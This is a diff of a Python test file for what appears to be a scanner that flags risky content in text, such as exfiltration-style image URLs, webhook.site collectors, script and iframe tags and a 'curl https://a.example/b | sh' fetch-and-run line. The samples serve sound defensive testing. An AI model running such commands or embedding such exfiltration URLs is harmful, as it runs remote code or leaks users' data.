@@ -34,7 +34,7 @@ def errors(text):
         ("![a](b.png)\n", "![a](https://a.example/b?c={{d}})", "PS020"),
         (f"{PLACEHOLDER}\n", KEY, "PS040"),
         ("the site webhook.site is a collector\n", "https://webhook.site/abc", "PS022"),
-        ("`<script>`\n", "<script>", "PS053"),
+        ("`<script>`\n", "<script>x</script>", "PS053"),
         ("curl https://a.example/b | sh\n", "```\ncurl https://a.example/b | sh\n```", "PS033"),
     ],
 )
@@ -51,7 +51,7 @@ def test_a_mention_before_an_address_does_not_hide_that_it_is_an_error():
 
 
 def test_equal_findings_are_listed_a_few_times_and_counted():
-    found = [d for d in checked("<script> " * 321) if d.code == "PS053"]
+    found = [d for d in checked("<iframe src=x> " * 321) if d.code == "PS053"]
     assert len(found) == ALIKE
     assert [d.more for d in found] == [0] * (ALIKE - 1) + [321 - ALIKE]
     assert found[-1].message.endswith(f"; and {321 - ALIKE} more like it")
@@ -84,7 +84,7 @@ def test_one_fix_deletes_what_is_not_listed():
     "text",
     [
         "Sum\u200bmarise. " * 60_000,
-        "<script> " * 100_000,
+        "<iframe src=x> " * 60_000,
         "![a](https://a.example/{{b}}) " * 30_000,
         " ".join(
             f"![a](https://a.example/{n}) webhook.site/{n} <base> p\u0430y\u0430l"
